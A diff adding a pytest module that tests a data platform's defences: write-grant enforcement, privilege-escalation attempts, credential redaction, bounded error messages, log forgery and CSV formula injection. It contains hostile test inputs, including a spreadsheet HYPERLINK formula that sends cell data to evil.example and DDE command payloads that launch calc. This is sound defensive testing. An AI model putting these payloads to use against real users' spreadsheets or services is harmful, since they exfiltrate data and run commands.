@@ -1,0 +1,490 @@
+"""Attempts to write to what one may only read, to find credentials in what plantlake says, to have data carried off by an error's
+text, and to have a spreadsheet run what a user is called. Each is refused, or shows nothing."""
+
+from __future__ import annotations
+
+import concurrent.futures
+import csv
+import datetime as dt
+import http.server
+import io
+import json
+import re
+import sqlite3
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import closing
+from pathlib import Path
+
+import adbc_driver_manager
+import pandas as pd
+import pyarrow as pa
+import pyarrow.flight as flight
+import pytest
+
+from harness import FAILURE, OK, USAGE, Finished, run
+from server import BEARER, PASSWORD, Plant, Raw, any_of, connect, eventually, text_field
+from test_ingest import begin, raw_files, readings, send
+
+pytestmark = pytest.mark.local_only
+REFUSALS = (flight.FlightError, pa.ArrowException, adbc_driver_manager.Error)
+START = dt.datetime(2024, 6, 1, tzinfo=dt.UTC)
+FORMULA = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"more\")"
+
+
+def may_send(plant: Plant, tenant: str, user: bool = True, key: bool = True) -> str:
+    """A key of a new user, with the permissions that an admin of the organisation could give."""
+    email = f"g{time.monotonic_ns()}@{tenant.lower()}.example"
+    allow = ["--ingest"] if user or key else []
+    plant.run("user", "create", email, "--org", tenant, "--role", "service", *allow).expect(OK)
+    made = plant.run("key", "create", "--user", email, "--name", "k", "--json", *(["--ingest"] if key else [])).expect(OK).json
+    if allow and not user:
+        plant.run("user", "change", email, "--ingest", "off").expect(OK)
+    return made["key"]
+
+
+@pytest.fixture(scope="module")
+def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
+    """North may write to its own assets, and read one of South's; South may read only; Everything may read all, and write to
+    the assets of one type."""
+    plant = Plant(tmp_path_factory.mktemp("grants")).build()
+    measured = set(plant.lake.table("data_d")["asset_id"])
+    plant.own = {name: sorted(tenant.assets & measured) for name, tenant in plant.tenants.items()}
+    plant.shared = plant.own["South"][0]
+    plant.run("org", "grant", "North", "--type", "temperature sensor", "--write").expect(OK)
+    plant.run("org", "grant", "North", "--asset", plant.shared).expect(OK)
+    plant.run("org", "grant", "Everything", "--type", "level sensor", "--write").expect(OK)
+    plant.keys = {
+        "North": may_send(plant, "North"),
+        "North, by the user only": may_send(plant, "North", key=False),
+        "North, by the key only": may_send(plant, "North", user=False),
+        "North, by neither": may_send(plant, "North", False, False),
+        "South": may_send(plant, "South"),
+        "Everything": may_send(plant, "Everything"),
+        "Nobody": may_send(plant, "Nobody"),
+    }
+    plant.serve()
+    yield plant
+    assert plant.stop() == OK
+
+
+def told(plant: Plant, key: str, assets: list[str], each: int = 2) -> str | None:
+    """What an ingest is refused with; none if it is taken."""
+    with connect(plant.uri, {BEARER: f"Bearer {key}"}) as connection:
+        try:
+            assert send(connection, readings(assets, each, START)) == each * len(assets)
+        except adbc_driver_manager.Error as error:
+            return str(error)
+    return None
+
+
+# ---- who may send readings for what
+
+
+def test_ingest_needs_a_write_grant_and_both_permissions(plant: Plant) -> None:
+    mine, shared, hidden = plant.own["North"][0], plant.shared, plant.own["South"][1]
+    kinds = {asset["id"]: asset["type"] for asset in plant.assets()}
+    [level, *_] = [asset for asset in plant.own["Everything"] if kinds[asset] == "level sensor"]
+    read_only = "is granted to your organisation for reading only; ask the operator to grant writing"
+    unknown = "is no asset that your organisation was granted"
+    permission = "may be sent only by users and keys that were given the permission"
+    none = "your organisation may read its assets, and write to none: ask the operator to grant writing"
+    cases = [
+        ("North", [mine], None),
+        ("North", [shared], read_only),
+        ("North", [hidden], unknown),
+        ("North", [mine, shared], f"row 3: the asset {shared} {read_only}"),
+        ("North", [mine, hidden], f"row 3: {hidden} {unknown}"),
+        ("North, by the user only", [mine], permission),
+        ("North, by the key only", [mine], permission),
+        ("North, by neither", [mine], permission),
+        ("South", [shared], none),
+        ("South", [mine], none),
+        ("Everything", [level], None),
+        ("Everything", [mine], read_only),
+        ("Everything", ["00000000-0000-4000-8000-000000000000"], read_only),
+        ("Nobody", [mine], none),
+    ]
+    before = raw_files(plant)
+    for key, assets, words in cases:
+        said = told(plant, plant.keys[key], assets)
+        assert (said is None) if words is None else (said is not None and words in said), (key, assets, said)
+        now = raw_files(plant)
+        assert len(now) == len(before) + (words is None), (key, assets)
+        before = now
+
+
+def test_an_admin_cannot_raise_what_the_operator_granted(plant: Plant) -> None:
+    """The finding: an organisation with a read grant gave itself `may_ingest`, and overwrote the owner's averages."""
+    before = raw_files(plant)
+    admin = ["--server", plant.uri, "--as", plant.tenants["South"].email("admin")]
+    secret = PASSWORD + "\n"
+    plant.run("user", "create", "mine@south.example", "--role", "service", "--ingest", *admin, stdin=secret)
+    made = json.loads(plant.run("key", "create", "--user", "mine@south.example", "--name", "k", "--ingest", "--json", *admin, stdin=secret))
+    assert "write to none" in told(plant, made["key"], [plant.shared])
+    # Nor by any statement, action or command that a server takes.
+    orders = [
+        {"order": "grant", "organisation": "South", "kind": "all", "value": "", "access": "write"},
+        {"order": "change_user", "email": "mine@south.example", "role": None, "name": None, "may_ingest": True, "write_grants": ["all"]},
+    ]
+    token = json.loads(plant.run("token", "create", plant.tenants["South"].email("admin"), "--json", stdin=secret))["token"]
+    client = Raw(plant.uri, token)
+    for order in orders:
+        with pytest.raises(REFUSALS):
+            client.action("plantlake.Administer", json.dumps(order).encode())
+    with pytest.raises(REFUSALS):
+        client.query("UPDATE account.grants SET may_write = true")
+    assert "write to none" in told(plant, made["key"], [plant.shared])
+    assert raw_files(plant) == before
+    shown = plant.run("org", "show", "South", "--json").expect(OK).json
+    assert shown["assets_writable"] == 0 and {grant["access"] for grant in shown["grants"]} == {"read"}
+
+
+def test_a_write_grant_allows_corrections(plant: Plant) -> None:
+    """A reading of the same asset and instant replaces what the raw folder has: that is what writing means."""
+    asset = plant.own["North"][1]
+    question = f"SELECT timestamp, value FROM raw_readings WHERE id = '{asset}' AND value IS NOT NULL ORDER BY 1 LIMIT 1"
+    at = plant.ask(question)["timestamp"][0].to_pydatetime()
+    minute = pd.Timestamp(at).floor("min").isoformat()
+    average = f"SELECT min FROM data_min WHERE asset_id = '{asset}' AND timestamp = '{minute}'"
+    [before] = plant.ask(average)["min"]
+    with connect(plant.uri, {BEARER: f"Bearer {plant.keys['North']}"}) as connection:
+        values = {"id": [asset], "timestamp": pa.array([at], pa.timestamp("us", "UTC")), "value": [-3933.24]}
+        assert send(connection, pa.table(values)) == 1
+    plant.lake.resample().expect(OK)
+    eventually(lambda: list(plant.ask(average)["min"]) == [-3933.24])
+    assert before > -3933.24
+
+
+@pytest.mark.parametrize("how", ["writing revoked", "grant revoked", "narrowed", "key expired", "permission taken"])
+def test_an_ingest_ends_when_the_right_to_it_does(plant: Plant, how: str) -> None:
+    asset, tenant = plant.own["North"][0], "North"
+    email = f"m{time.monotonic_ns()}@north.example"
+    plant.run("user", "create", email, "--org", tenant, "--role", "service", "--ingest").expect(OK)
+    made = plant.run("key", "create", "--user", email, "--name", "k", "--ingest", "--json").expect(OK).json
+    if how == "key expired":
+        end = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=2)
+        with closing(sqlite3.connect(plant.lake.state / "organisation.db")) as database:
+            database.execute("UPDATE api_keys SET expires_at = ? WHERE id = ?", (end.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), made["id"]))
+            database.commit()
+    rule, narrower = ["--type", "temperature sensor"], ["--asset", asset]
+    before = raw_files(plant)
+    _, writer, reader = begin(plant.uri, made["key"], asset)
+    done = threading.Event()
+    failure: list[Exception] = []
+
+    def go_on() -> None:
+        try:
+            while not done.is_set():
+                writer.write_table(readings([asset], 10))
+                time.sleep(0.2)
+            writer.close()
+        except (*REFUSALS, OSError) as error:
+            failure.append(error)
+
+    thread = threading.Thread(target=go_on)
+    thread.start()
+    try:
+        match how:
+            case "writing revoked":
+                plant.run("org", "revoke", tenant, *rule, "--write").expect(OK)
+            case "grant revoked":
+                plant.run("org", "revoke", tenant, *rule).expect(OK)
+            case "narrowed":
+                plant.run("org", "grant", tenant, *narrower, "--write").expect(OK)
+                plant.run("org", "revoke", tenant, *rule, "--write").expect(OK)
+            case "permission taken":
+                plant.run("user", "change", email, "--ingest", "off").expect(OK)
+        thread.join(8)
+        done.set()
+        thread.join()
+        with pytest.raises((*REFUSALS, OSError)):
+            reader.read()
+            writer.close()
+            raise failure[0]
+        assert raw_files(plant) == before
+        if how == "narrowed":
+            # What is left of the right can be used.
+            assert eventually(lambda: told(plant, made["key"], [asset]) is None) < 5
+            assert "for reading only" in told(plant, made["key"], [plant.own["North"][1]])
+            plant.run("org", "revoke", tenant, *narrower).expect(OK)
+    finally:
+        plant.run("org", "grant", tenant, *rule, "--write").expect(OK)
+    eventually(lambda: told(plant, plant.keys["North"], [asset]) is None)
+
+
+def test_two_organisations_write_to_the_same_assets_only_if_the_operator_says_so(plant: Plant) -> None:
+    rule = ["--type", "temperature sensor"]
+    refused = plant.run("org", "grant", "South", *rule, "--write").expect(FAILURE)
+    assert "others may write to the same assets: \"North\" (" in refused.err and "--share-writing" in refused.err
+    for wider in (["--all"], ["--asset", plant.own["North"][0]]):
+        plant.run("org", "grant", "South", *wider, "--write").expect(FAILURE)
+    assert plant.run("org", "show", "South", "--json").expect(OK).json["assets_writable"] == 0
+    # Reading is no matter of others, and neither is writing to other assets.
+    plant.run("org", "grant", "South", *rule).expect(OK)
+    plant.run("org", "grant", "South", "--type", "pressure sensor", "--write").expect(OK)
+    plant.run("org", "grant", "South", *rule, "--write", "--share-writing").expect(OK)
+    shown = plant.run("org", "show", "South").expect(OK)
+    assert "\"North\" (" in shown.err and "with writing" in shown.text
+    plant.run("org", "grant", "South", *rule, "--share-writing").expect(USAGE)
+    # What is taken back leaves the reading.
+    plant.run("org", "revoke", "South", *rule, "--type", "pressure sensor", "--write").expect(OK)
+    shown = plant.run("org", "show", "South", "--json").expect(OK).json
+    assert shown["assets_writable"] == 0 and shown["assets_visible"] > 0
+    assert "has no write grant" in plant.run("org", "revoke", "South", *rule, "--write").expect(FAILURE).err
+    plant.run("org", "revoke", "South", *rule).expect(OK)
+    actions = [(entry["details"].get("access"), entry["action"]) for entry in plant.run("audit", "--org", "South", "--last", "6", "--json").expect(OK).json]
+    assert ("write", "org.grant") in actions and ("write", "org.revoke") in actions
+
+
+def test_who_sends_without_a_write_grant_is_named_to_the_operator(plant: Plant) -> None:
+    words = "\"South\" has users who may send readings, and no grant that allows writing"
+    assert words in plant.run("migrate").expect(OK).err
+    assert any("South" in line and "no grant that allows writing" in line for line in plant.log)
+    finding = next(f for f in plant.run("doctor", "--json").json["findings"] if f["what"] == "organisations")
+    assert finding["standing"] == "note" and "South" in finding["found"] and "--write" in finding["todo"]
+    assert "North" not in finding["found"]
+
+
+# ---- credentials in what is said
+
+HUSH = "Tr0ub4dorHush"
+
+
+@pytest.fixture(scope="module")
+def store() -> Iterator[str]:
+    """An object store that refuses everything at once, and repeats what it was asked for."""
+
+    class Refusing(http.server.BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            self.rfile.read(int(self.headers.get("content-length") or 0))
+            body = f"<Error><Code>AccessDenied</Code><Message>{self.path}</Message></Error>".encode()
+            self.send_response(403)
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_PUT = do_HEAD = do_POST = do_DELETE = answer
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Refusing)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"127.0.0.1:{server.server_port}"
+    server.shutdown()
+
+
+def credentials(store: str) -> dict[str, dict[str, str]]:
+    """Settings that have a secret in them, by what they are an instance of."""
+    s3 = {"STORAGE_AWS_ENDPOINT": f"http://{store}", "STORAGE_AWS_REGION": "x", "STORAGE_AWS_ALLOW_HTTP": "true",
+          "STORAGE_AWS_ACCESS_KEY_ID": "id", "STORAGE_AWS_SECRET_ACCESS_KEY": HUSH}
+    gone = "127.0.0.1:1"
+    return {
+        "lake": s3 | {"LAKE": f"s3://me:{HUSH}@bucket/lake"},
+        "lake, a token": s3 | {"LAKE": f"s3://{HUSH}@bucket/lake"},
+        "lake, a parameter": s3 | {"LAKE": f"s3://bucket/lake?secret={HUSH}&a={HUSH}#{HUSH}"},
+        "lake, an unknown scheme": {"LAKE": f"gs://me:{HUSH}@bucket/lake"},
+        "lake, not a URL": {"LAKE": f"s3://me:{HUSH}@[bucket/lake"},
+        "lake, unescaped": {"LAKE": f"s3://me:{HUSH}/x@bucket/lake"},
+        "raw": {"RAW": f"s3://me:{HUSH}@bucket/raw?x={HUSH}"} | s3,
+        "endpoint": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_ENDPOINT": f"http://me:{HUSH}@{store}"},
+        "proxy": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_PROXY_URL": f"http://me:{HUSH}@{store}"},
+        "organisation": {"ORGANISATION_URL": f"postgres://me:{HUSH}@{gone}/db?password={HUSH}&sslpassword={HUSH}"},
+        "organisation, unescaped": {"ORGANISATION_URL": f"postgres://me:a/{HUSH}#b@{gone}/db"},
+        "organisation, no scheme": {"ORGANISATION_URL": f"me:{HUSH}@{gone}/db"},
+        "organisation, another": {"ORGANISATION_URL": f"mysql://me:{HUSH}@{gone}/db"},
+        "organisation, a wrong parameter": {"ORGANISATION_URL": f"postgres://me:{HUSH}@{gone}/db?sslmode={HUSH[:3]}"},
+        "mirror": {"MIRROR_URL": f"postgres://me:{HUSH}@{gone}/db?password={HUSH}"},
+        "qdrant": {"QDRANT_URL": f"http://me:{HUSH}@{gone}"},
+        "qdrant, a parameter": {"QDRANT_URL": f"http://{gone}?key={HUSH}"},
+        "qdrant, a key": {"QDRANT_URL": f"https://{gone}", "QDRANT_API_KEY": HUSH},
+        "webhook": {"SCHEDULE_WEBHOOK_URL": f"http://{gone}/hooks/{HUSH}"},
+        "webhook, not a URL": {"SCHEDULE_WEBHOOK_URL": f"http//{gone}/hooks/{HUSH}"},
+        "issuer": {"AUTH_ISSUER": f"https://me:{HUSH}@issuer.example"},
+        "storage token": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_SESSION_TOKEN": HUSH},
+    }
+
+
+COMMANDS = [["config"], ["config", "--json"], ["doctor"], ["doctor", "--json"], ["status"], ["query", "SELECT 1"], ["org", "list"], ["migrate"],
+            ["serve", "--listen", "127.0.0.1:0"], ["resample"], ["mirror"], ["run", "mirror"], ["jobs"]]
+# The commands that a setting matters to, other than those that tell all settings.
+MATTERS = {"lake": ["status", "query", "resample"], "raw": ["resample", "status"], "endpoint": ["status"], "proxy": ["status"], "storage token": ["status"],
+           "organisation": ["org", "migrate", "serve", "jobs"], "mirror": ["mirror", "run"], "qdrant": [], "webhook": [], "issuer": []}
+
+
+def test_nothing_says_the_credentials_of_a_setting(store: str, tmp_path: Path) -> None:
+    (tmp_path / "catalog").mkdir()
+    (tmp_path / "catalog" / "assets.json").write_text("[]")
+    todo = []
+    for name, given in credentials(store).items():
+        settings = {f"PLANTLAKE_{key}": value for key, value in given.items()}
+        folder = tmp_path / str(len(todo))
+        folder.mkdir()
+        defaults = {"PLANTLAKE_CATALOG": str(tmp_path / "catalog"), "PLANTLAKE_STATE": str(folder / "state"), "PLANTLAKE_LOG": "debug"}
+        matters = MATTERS[name.split(",")[0]]
+        chosen = [command for command in COMMANDS if command[0] in {"config", "doctor", *matters}]
+        todo += [(name, command, defaults | settings, folder) for command in chosen]
+
+    def said(one: tuple[str, list[str], dict[str, str], Path]) -> Finished:
+        _, command, settings, folder = one
+        return run(command, settings, folder)
+
+    with concurrent.futures.ThreadPoolExecutor(4) as pool:
+        finished = list(pool.map(said, todo))
+    failed = 0
+    for (name, command, settings, _), one in zip(todo, finished):
+        text = one.out.decode() + one.err
+        assert HUSH not in text and "dorHush" not in text, f"{name}: {command}\n{text}"
+        assert text.strip(), f"{name}: {command}"
+        failed += one.code != OK
+        if command[0] == "config" and one.code == OK and name not in ("issuer",):
+            assert "******" in text, f"{name}: {text}"
+    assert failed > len(todo) / 4, "most of these cannot work"
+
+
+def test_what_a_job_failed_of_is_kept_without_credentials(tmp_path: Path) -> None:
+    """It goes into the history, from there into `jobs` and `status`, and to the webhook."""
+    settings = {"PLANTLAKE_MIRROR_URL": f"postgres://me:{HUSH}@127.0.0.1:1/db", "PLANTLAKE_MIRROR_RETRY_FOR": "1s"}
+    (tmp_path / "jobs").mkdir()
+    (tmp_path / "jobs" / "mirror.toml").write_text('kind = "mirror"\n')
+    ended = run(["run", "mirror"], settings, tmp_path)
+    assert ended.code != OK and HUSH not in ended.err
+    with closing(sqlite3.connect(tmp_path / "lake" / ".state" / "organisation.db")) as database:
+        rows = database.execute("SELECT error FROM job_runs").fetchall()
+        assert rows and rows[0][0] and HUSH not in str(rows), rows
+        # One of before, which was written with them.
+        database.execute(f"UPDATE job_runs SET error = 'cannot reach postgres://me:{HUSH}@127.0.0.1:1/db'")
+        database.commit()
+    told = run(["jobs", "history"], settings, tmp_path)
+    assert "me:******@127.0.0.1" in told.text and HUSH not in told.text, str(told)
+
+
+# ---- what errors tell of data
+
+
+def texts_of_values(asset: str) -> dict[str, str]:
+    """Statements whose errors quote a value that is made of data, and long."""
+    long = f"repeat(asset_id, 50)"
+    scan = f"FROM data_h WHERE asset_id = '{asset}' LIMIT 5"
+    return {
+        "integer": f"SELECT CAST({long} AS BIGINT) {scan}",
+        "double": f"SELECT CAST({long} AS DOUBLE) {scan}",
+        "decimal": f"SELECT CAST({long} AS DECIMAL(20, 2)) {scan}",
+        "boolean": f"SELECT CAST({long} AS BOOLEAN) {scan}",
+        "date": f"SELECT CAST({long} AS DATE) {scan}",
+        "time": f"SELECT CAST({long} AS TIME) {scan}",
+        "timestamp": f"SELECT CAST({long} AS TIMESTAMP) {scan}",
+        "interval": f"SELECT CAST({long} AS INTERVAL) {scan}",
+        "to_timestamp": f"SELECT to_timestamp({long}) {scan}",
+        "to_date": f"SELECT to_date({long}) {scan}",
+        "arrow_cast": f"SELECT arrow_cast({long}, 'Int32') {scan}",
+        "date_trunc": f"SELECT date_trunc({long}, timestamp) {scan}",
+        "date_part": f"SELECT date_part({long}, timestamp) {scan}",
+        "regular expression": f"SELECT regexp_like('a', concat('(', {long})) {scan}",
+        "quotes inside": f"SELECT CAST(repeat(concat(asset_id, ''' to \"'), 50) AS BIGINT) {scan}",
+        "all rows": "SELECT CAST(string_agg(asset_id, ',') AS BIGINT) FROM data_h",
+        "names": "SELECT CAST(string_agg(name, ',') AS BIGINT) FROM assets",
+        "decode": f"SELECT decode({long}, 'base64') {scan}",
+        "json": f"SELECT spec_value({long}, 'a') {scan}",
+    }
+
+
+def test_an_error_quotes_a_glance_of_a_value_and_says_how_long_it_is(plant: Plant) -> None:
+    client, asset = plant.client("North"), plant.own["North"][0]
+    cut = 0
+    for name, sql in texts_of_values(asset).items():
+        try:
+            client.query(sql)
+            continue
+        except REFUSALS as error:
+            text = str(error)
+        # 64 characters are not two ids.
+        assert len(re.findall(re.escape(asset), text)) <= 2, f"{name}: {text}"
+        assert len(text) < 1_500 and "\x1b" not in text, f"{name}: {text}"
+        cut += " characters)" in text
+    assert cut >= 5
+
+
+def test_an_error_fits_into_a_header_whatever_was_sent(plant: Plant) -> None:
+    """gRPC sends it in one, percent-encoded; clients take 8 KiB of headers, and break off at more."""
+    client = plant.client("North")
+    key = plant.keys["North"]
+    texts = {"long": "x" * 100_000, "wide": "界" * 30_000, "marks": "%" * 50_000, "control": "\x1b[2J\x07\r\n\t" * 1_000, "bidi": "\u202e" * 2_000}
+    for name, text in texts.items():
+        quoted = text.replace('"', "").replace("\x00", "")
+        calls = {
+            "table": lambda: client.query(f'SELECT * FROM "{quoted}"'),
+            "column": lambda: client.query(f'SELECT "{quoted}" FROM data_h'),
+            "literal": lambda: client.query(f"SELECT CAST('{quoted}' AS BIGINT)"),
+            "target": lambda: send_to(plant, key, quoted),
+            "user": lambda: Raw(plant.uri, plant.tenants["North"].key).action("plantlake.Administer", json.dumps({"order": "user", "email": text}).encode()),
+            "option": lambda: client.query(f"SET TIME ZONE '{quoted}'"),
+            "action": lambda: client.action(text.encode("ascii", "ignore").decode()[:5000] or "x"),
+        }
+        for call, doing in calls.items():
+            with pytest.raises(REFUSALS) as caught:
+                doing()
+            error = caught.value
+            message = str(error)
+            assert not isinstance(error, flight.FlightInternalError) and "INTERNAL" not in message.upper()[:40], f"{name} {call}: {message[:300]}"
+            assert len(message) < 3_000, f"{name} {call}: {len(message)}"
+            assert not any(sign in message for sign in "\x1b\x07\u202e\r"), f"{name} {call}: {message!r:.300}"
+
+
+def send_to(plant: Plant, key: str, table: str) -> None:
+    client = flight.FlightClient(plant.uri)
+    options = flight.FlightCallOptions(headers=[(b"authorization", f"Bearer {key}".encode())])
+    command = any_of("CommandStatementIngest", text_field(2, table))
+    sent = readings([plant.own["North"][0]], 1)
+    writer, reader = client.do_put(flight.FlightDescriptor.for_command(command), sent.schema, options)
+    with writer:
+        writer.write_table(sent)
+        writer.done_writing()
+        reader.read()
+
+
+def test_what_clients_send_makes_no_entries_of_the_log(plant: Plant) -> None:
+    with pytest.raises(REFUSALS):
+        plant.client("North").query("SELECT \"x\n2026-01-01T00:00:00Z ERROR forged: entry\" + interval '1 day' FROM data_h")
+    time.sleep(0.3)
+    assert not any(line.startswith("2026-01-01T00:00:00Z ERROR") for line in plant.log)
+
+
+# ---- formulas in reports
+
+
+def test_reports_have_no_formulas_and_keep_their_numbers(plant: Plant) -> None:
+    names = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|x"]
+    users = {}
+    for at, name in enumerate(names):
+        email = f"{'=+-@'[at]}cmd|x!a{at}@formula.example" if at != 3 else "=1+1@formula.example"
+        plant.run("org", "create", name).expect(OK)
+        plant.run("org", "grant", name, "--type", "site").expect(OK)
+        plant.run("user", "create", email, "--org", name, "--role", "service").expect(OK)
+        made = plant.run("key", "create", "--user", email, "--name", "k", "--json").expect(OK).json
+        Raw(plant.uri, made["key"]).query("SELECT count(*) FROM assets")
+        users[name] = email
+    reports = [["usage", "report", "--by", "user", "--format", "csv"], ["usage", "report", "--format", "csv"],
+               ["usage", "report", "--by", "endpoint", "--format", "csv"]]
+    month = dt.datetime.now(dt.UTC).strftime("%Y-%m")
+    reports.append(["usage", "invoice", month, "--format", "csv"])
+    eventually(lambda: plant.run(*reports[1]).expect(OK).text.count("cmd") >= 2, 15)
+    for report in reports:
+        text = plant.run(*report).expect(OK).text
+        rows = list(csv.reader(io.StringIO(text)))
+        assert len({len(row) for row in rows}) == 1 and len(rows) > len(names), text
+        for cell in (cell for row in rows for cell in row):
+            if cell.lstrip().startswith(("=", "+", "-", "@")):
+                assert re.fullmatch(r"[-+]?\d+(\.\d+)?", cell), f"{report}: {cell}"
+            assert not cell.startswith(("\t", "\r"))
+        for name in names:
+            assert f"'{name}" in [row[0] for row in rows], text
+        table = pd.read_csv(io.StringIO(text))
+        amounts = [column for column in table if column in ("requests", "bytes_sent", "quantity", "price", "amount")]
+        assert amounts and all(pd.api.types.is_numeric_dtype(table[column]) for column in amounts)
+    assert all(f"'{email}" in plant.run(*reports[0]).text for email in users.values())
+    # An answer is data, to the letter.
+    exact = plant.run("query", "SELECT '=1+1' AS a, '-x' AS b", "--format", "csv").expect(OK).text
+    assert exact == "a,b\n=1+1,-x\n", exact
